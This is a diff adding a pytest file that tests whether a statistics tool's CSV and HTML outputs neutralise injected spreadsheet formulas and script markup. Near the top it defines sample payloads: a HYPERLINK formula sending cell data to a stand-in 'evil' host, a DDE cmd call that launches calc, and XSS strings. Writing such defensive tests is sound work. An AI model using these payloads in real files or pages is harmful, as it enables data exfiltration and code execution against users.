@@ -1,0 +1,118 @@
+"""Attack: names that a spreadsheet runs, or that a page shows as its own markup."""
+
+import csv
+
+import pandas as pd
+import pytest
+from typer.testing import CliRunner
+
+import tests.study.world as worlds
+from predbayes_lab.rendering import to_csv
+from predbayes_lab.statistics import Summary
+from predbayes_lab.tables import Entry, Table
+from predbayes_study.cli.app import app
+from predbayes_study.kit.kit import Kit, Labels
+
+LINK = '=HYPERLINK("http://evil/?"&A1,"x")'
+CALL = "@SUM(1+1)*cmd|' /C calc'!A0"
+MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'</style></svg>{{7*7}}"
+STARTS = tuple("=+-@\t\r")
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory):
+    """A study whose classes, one column, its words and all free texts are attacks."""
+    quoted = MARKUP.replace('"', '\\"')
+    frame, common = worlds._frame, worlds._COMMON
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(worlds, "_frame", lambda *a, **k: attacked(frame(*a, **k)))
+        for old in ('unit = "mm"', 'source = "drawn"', 'licence = "CC0"'):
+            common = common.replace(old, f'{old.split(" = ")[0]} = "{quoted}"')
+        words = 'type = "category", categories = ["+1+cmd", "x;=1+1", "-1"]'
+        common = common.replace("[reference]", f'"=A1" = {{ {words} }}\n[reference]', 1)
+        patch.setattr(
+            worlds,
+            "_COMMON",
+            common.replace("\n[columns]", f'\ndescription = "{quoted}"\n[columns]', 1),
+        )
+        classes = "[" + ", ".join(f"'''{name}'''" for name in (LINK, CALL, "blue")) + "]"
+        patch.setattr(
+            worlds, "_CLASSES", worlds._CLASSES.replace('["red", "green", "blue"]', classes)
+        )
+        yield worlds.make_world(tmp_path_factory.mktemp("injection"))
+
+
+def attacked(frame):
+    frame["kind"] = frame["kind"].replace({"red": LINK, "green": CALL})
+    frame["=A1"] = [("+1+cmd", "x;=1+1", "-1", "@other")[row % 4] for row in range(len(frame))]
+    return frame
+
+
+@pytest.fixture(scope="module")
+def result(world):
+    study = world.begin(sites=("Alpha", "Beta"))
+    for site in ("Alpha", "Beta"):
+        study.add(world.file(site))
+    study.finish()
+    return study.result_folder(1)
+
+
+def cells(path):
+    """Cells as a spreadsheet sees them, whichever mark it takes for a separator."""
+    text = path.read_text()
+    for mark in ",;\t|":
+        for row in csv.reader(text.splitlines(), delimiter=mark):
+            yield from row
+
+
+def assert_no_formula(path):
+    for cell in cells(path):
+        begin = cell.partition(",")[0]  # a number, also where the whole line is one cell
+        assert not cell.startswith(STARTS) or is_number(begin), cell
+
+
+def is_number(cell):
+    try:
+        return float(cell) is not None
+    except ValueError:
+        return False
+
+
+def test_predictions_hold_no_formula_and_every_number(world, result, tmp_path):
+    rows = pd.DataFrame({"x": ["-1.5", "20"], "y": ["2", "-40"], "=A1": ["-1", "+1+cmd"]})
+    rows["id"] = ["-2+3+cmd", "+41"]
+    rows.to_csv(tmp_path / "rows.csv", index=False)
+    out = tmp_path / "predictions.csv"
+    command = ["predict", str(result), str(tmp_path / "rows.csv"), "--out", str(out)]
+    done = CliRunner().invoke(app, [*command, "--keep", "id", "--keep", "x", "--keep", "=A1"])
+    assert done.exit_code == 0, done.output
+    assert_no_formula(out)
+    table = pd.read_csv(out, dtype=str)
+    assert list(table["x"]) == ["-1.5", "20"]
+    assert list(table["id"]) == ["'-2+3+cmd", "+41"]
+    assert set(table["predicted"]) <= {f"'{LINK}", f"'{CALL}", "blue"}
+
+
+def test_reference_rows_hold_no_formula_and_are_read_back(world):
+    assert_no_formula(world.kit.folder / "reference.csv")
+    kit = Kit.load(world.kit.folder)
+    assert bool((kit.inputs == world.kit.inputs).all())
+    assert len(Labels.load(world.labels_path, kit).reference.targets)
+    coded = kit.inputs[:, -4:]  # three words and other ones
+    assert coded.sum(0).min() > 0
+
+
+def test_pages_show_markup_as_text(result):
+    for page in ("report.html", "report-public.html", "model-card.html"):
+        text = (result / page).read_text()
+        assert "<script>alert" not in text
+        assert "<img src=x" not in text
+        assert text.count("</style>") == 1
+
+
+def test_tables_of_experiments_hold_no_formula(tmp_path):
+    entry = Entry(Summary(mean=-0.5, standard_error=0.1, num=3), variant="+1")
+    table = Table("t", "nll", 0.0, ("=cmd()",), ("@cell",), {("=cmd()", "@cell"): entry})
+    (tmp_path / "table.csv").write_text(to_csv(table))
+    assert_no_formula(tmp_path / "table.csv")
+    assert "-0.5" in to_csv(table)
